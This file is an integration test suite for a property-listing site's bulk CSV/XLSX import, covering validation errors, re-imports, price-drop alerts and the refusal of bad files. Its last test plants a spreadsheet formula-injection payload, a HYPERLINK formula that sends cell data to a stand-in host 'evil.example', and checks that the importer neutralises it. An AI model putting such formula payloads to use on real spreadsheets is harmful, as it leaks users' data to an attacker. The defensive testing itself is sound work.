/**
 * Bulk import end to end on the database (issue 34): a 20-row CSV with three
 * bad rows (a price "abc", a missing title, an unknown locality) dry-runs to
 * 17 new and 3 errors with each error's row and column and writes nothing;
 * confirmed, 17 listings exist; the same file again is 17 unchanged; a
 * lowered price updates the listing with a price-history row and a saved
 * search's price-drop alert; the same rows as XLSX give the same preview; a
 * file over the row limit, a photo renamed .csv and a formula cell are
 * refused or kept as plain text, and the report never holds a formula.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { and, eq, gt } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import writeXlsxFile from "write-excel-file/node";
import { stringify } from "csv-stringify/sync";
import { parse } from "csv-parse/sync";
import {
  confirmImport,
  createImport,
  importAccountOf,
  importReportRows,
  importView,
  inspectUpload,
  type ImportAccount,
} from "#app/domain/supply/imports.server";
import { createSavedSearch } from "#app/domain/seekers/saved-searches.server";
import { db } from "#app/platform/db.server";
import { runDueJobs } from "#app/platform/jobs.server";
import { properties, propertyPriceChanges, savedSearchAlerts, supplierProfiles, user } from "#app/platform/schema";
import { useTestDatabase } from "../helpers/database";
// Every job's handler, as a server has them (the saved-search alerts among them).
import "#app/web/job-registry.server";

useTestDatabase();

const HEADER = [
  "external_ref",
  "property_type",
  "category",
  "listing_type",
  "title",
  "description",
  "price",
  "area_sqft",
  "bedrooms",
  "bathrooms",
  "parking",
  "amenities",
  "address",
  "locality",
  "city",
  "state",
  "pincode",
  "owner_name",
  "owner_phone",
  "owner_email",
];

const LOCALITIES = ["Andheri West", "Bandra West", "Powai", "Juhu", "Malad West"];

/** Row i (1–20) of the acceptance sheet; rows 5, 9 and 14 are the bad ones. */
function sheetRow(i: number, price = `${(80 + i) / 100} Cr`): string[] {
  return [
    `AGT-${1000 + i}`,
    "residential",
    "Apartment",
    "sale",
    i === 9 ? "" : `${(i % 3) + 1} BHK flat number ${i} near the station`,
    `A bright flat number ${i} with two balconies, covered parking and a view of the hills from the living room.`,
    i === 5 ? "abc" : price,
    `${800 + i * 10}`,
    `${(i % 3) + 1}`,
    "2",
    "1",
    "Lift; Security",
    `${i} Hill Road`,
    i === 14 ? "Atlantis" : LOCALITIES[i % LOCALITIES.length]!,
    "Mumbai",
    "Maharashtra",
    "400053",
    "Asha Mehta",
    "9876543210",
    "asha@example.com",
  ];
}

function acceptanceRows(priceOf: (i: number) => string | undefined = () => undefined): string[][] {
  return [HEADER, ...Array.from({ length: 20 }, (_, index) => sheetRow(index + 1, priceOf(index + 1)))];
}

let dir: string;
const files: string[] = [];
function fileWith(name: string, contents: string | Buffer): string {
  const file = path.join(dir, `${files.length}-${name}`);
  fs.writeFileSync(file, contents);
  files.push(file);
  return file;
}

async function newAgent(id: string): Promise<ImportAccount> {
  await db
    .insert(user)
    .values({ id, name: `Agent ${id}`, email: `${id}@example.com`, role: "agent", emailVerified: true });
  await db.insert(supplierProfiles).values({
    userId: id,
    kind: "agent",
    slug: id,
    name: `Agent ${id}`,
    reraNumber: "A51800012345",
    status: "approved",
  });
  const account = await importAccountOf({ id, role: "agent" });
  if (!account) throw new Error("an approved agent may import");
  return account;
}

/** Uploads a file as the page does (inspect, store), then lets the jobs run the dry run. */
async function dryRun(account: ImportAccount, file: string) {
  const inspection = await inspectUpload(file);
  if (!inspection.ok) throw new Error(`refused: ${inspection.problem}`);
  const id = await createImport(account, {
    file,
    fileName: path.basename(file),
    byteSize: fs.statSync(file).size,
    format: inspection.format,
    totalRows: inspection.totalRows,
    locale: "en",
  });
  await runDueJobs();
  return id;
}

async function confirmAndRun(account: ImportAccount, id: number) {
  expect(await confirmImport(account.userId, id)).toBe("started");
  await runDueJobs();
  await runDueJobs();
}

async function ownedListings(userId: string) {
  return db.select().from(properties).where(eq(properties.ownerUserId, userId));
}

let agent: ImportAccount;

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "nivaas-import-test-"));
  agent = await newAgent("import-agent");
});

afterAll(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

describe("bulk import of the acceptance sheet", () => {
  let csv: string;
  let firstId: number;

  it("dry-runs 20 rows to 17 new and 3 errors, each with its row and column, writing nothing", async () => {
    csv = fileWith("listings.csv", stringify(acceptanceRows()));
    firstId = await dryRun(agent, csv);
    const view = (await importView(agent.userId, firstId))!;
    expect(view.status).toBe("checked");
    expect(view.checked).toEqual({ new: 17, changed: 0, unchanged: 0, errors: 3 });
    // The header is row 1: sheet rows 5, 9 and 14 are rows 6, 10 and 15.
    expect(view.errors.map(({ rowNumber, column }) => [rowNumber, column])).toEqual([
      [6, "price"],
      [10, "title"],
      [15, "locality"],
    ]);
    expect(await ownedListings(agent.userId)).toHaveLength(0);
  });

  it("imports the 17 good rows once confirmed", async () => {
    await confirmAndRun(agent, firstId);
    const view = (await importView(agent.userId, firstId))!;
    expect(view.status).toBe("done");
    expect(view.imported).toEqual({ new: 17, changed: 0, unchanged: 0, errors: 3 });
    expect(view.processedRows).toBe(20);
    expect(await ownedListings(agent.userId)).toHaveLength(17);
  });

  it("reports the same file again as 17 unchanged", async () => {
    const id = await dryRun(agent, fileWith("again.csv", stringify(acceptanceRows())));
    expect((await importView(agent.userId, id))!.checked).toEqual({ new: 0, changed: 0, unchanged: 17, errors: 3 });
    await confirmAndRun(agent, id);
    expect((await importView(agent.userId, id))!.imported).toEqual({ new: 0, changed: 0, unchanged: 17, errors: 3 });
    expect(await ownedListings(agent.userId)).toHaveLength(17);
  });

  it("updates a lowered price with its price history and a saved search's price-drop alert", async () => {
    const saved = await createSavedSearch(agent.userId, {
      kind: "residential",
      query: "status=sale",
      name: "Flats for sale",
      frequency: "instant",
      email: true,
      sms: false,
    });
    expect(saved.ok).toBe(true);
    const [before] = await db.select().from(properties).where(eq(properties.externalRef, "AGT-1002"));
    expect(before!.price).toBe(8_200_000);
    const id = await dryRun(
      agent,
      fileWith("cheaper.csv", stringify(acceptanceRows((i) => (i === 2 ? "75 L" : undefined)))),
    );
    expect((await importView(agent.userId, id))!.checked).toEqual({ new: 0, changed: 1, unchanged: 16, errors: 3 });
    await confirmAndRun(agent, id);
    const [after] = await db.select().from(properties).where(eq(properties.id, before!.id));
    expect(after!.price).toBe(7_500_000);
    const history = await db.select().from(propertyPriceChanges).where(eq(propertyPriceChanges.propertyId, before!.id));
    expect(history.map((row) => [row.previousPrice, row.price])).toEqual([[8_200_000, 7_500_000]]);
    const alerts = await db
      .select()
      .from(savedSearchAlerts)
      .where(and(eq(savedSearchAlerts.propertyId, before!.id), gt(savedSearchAlerts.changeId, 0)));
    expect(alerts).toHaveLength(1);
  });

  it("gives the same preview for the same rows as XLSX", async () => {
    const other = await newAgent("xlsx-agent");
    const buffer = await writeXlsxFile(
      acceptanceRows().map((row) => row.map((value) => ({ value, type: String }))),
    ).toBuffer();
    const id = await dryRun(other, fileWith("listings.xlsx", buffer));
    const view = (await importView(other.userId, id))!;
    expect(view.checked).toEqual({ new: 17, changed: 0, unchanged: 0, errors: 3 });
    expect(view.errors.map(({ rowNumber, column }) => [rowNumber, column])).toEqual([
      [6, "price"],
      [10, "title"],
      [15, "locality"],
    ]);
    // Numbers typed as numbers in Excel read the same as text.
    const numeric = await writeXlsxFile(
      acceptanceRows().map((row, index) =>
        row.map((value, column) =>
          index > 0 && HEADER[column] === "area_sqft"
            ? { value: Number(value), type: Number }
            : { value, type: String },
        ),
      ),
    ).toBuffer();
    const again = await dryRun(other, fileWith("numeric.xlsx", numeric));
    expect((await importView(other.userId, again))!.checked).toEqual({ new: 17, changed: 0, unchanged: 0, errors: 3 });
  });
});

describe("what an import refuses", () => {
  it("refuses a file with more rows than the limit", async () => {
    const rows = [HEADER, ...Array.from({ length: 5_001 }, (_, index) => sheetRow((index % 20) + 1))];
    const inspection = await inspectUpload(fileWith("long.csv", stringify(rows)));
    expect(inspection).toMatchObject({ ok: false, problem: "too-many-rows" });
  });

  it("refuses a photo or an old Excel file renamed .csv, and a CSV that names no column", async () => {
    const png = Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489", "hex");
    expect(await inspectUpload(fileWith("photo.csv", png))).toMatchObject({ ok: false, problem: "not-a-sheet" });
    const xls = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(512)]);
    expect(await inspectUpload(fileWith("old.csv", xls))).toMatchObject({ ok: false, problem: "old-excel" });
    expect(await inspectUpload(fileWith("notes.csv", "Dear agent,\nplease call me.\n"))).toMatchObject({
      ok: false,
      problem: "no-known-columns",
    });
    const zip = Buffer.from("504b0506000000000000000000000000000000000000", "hex");
    expect(await inspectUpload(fileWith("empty.xlsx", zip))).toMatchObject({ ok: false, problem: "not-a-sheet" });
  });

  it("keeps a formula cell as plain text and never writes a formula into the report", async () => {
    const agent2 = await newAgent("formula-agent");
    const rows = acceptanceRows();
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for a better price")';
    rows[1]![4] = formula;
    rows[2]![HEADER.indexOf("owner_name")] = "@SUM(1+1)";
    const id = await dryRun(agent2, fileWith("formula.csv", stringify(rows)));
    await confirmAndRun(agent2, id);
    const report = (await importReportRows(agent2.userId, id))!;
    const lines: string[][] = [];
    for await (const line of report.rows) lines.push(line);
    const text = stringify(lines);
    const cells = (parse(text) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${formula}`);
    expect(lines[0]!.slice(-2)).toEqual(["import_status", "import_errors"]);
    expect(lines).toHaveLength(21);
    // Whatever the listing's rules made of the formula title, it was never run: no stored value is a formula's result.
    const stored = await db
      .select({ title: properties.title })
      .from(properties)
      .where(eq(properties.ownerUserId, agent2.userId));
    expect(stored.some((row) => row.title === "Click for a better price")).toBe(false);
  });
});
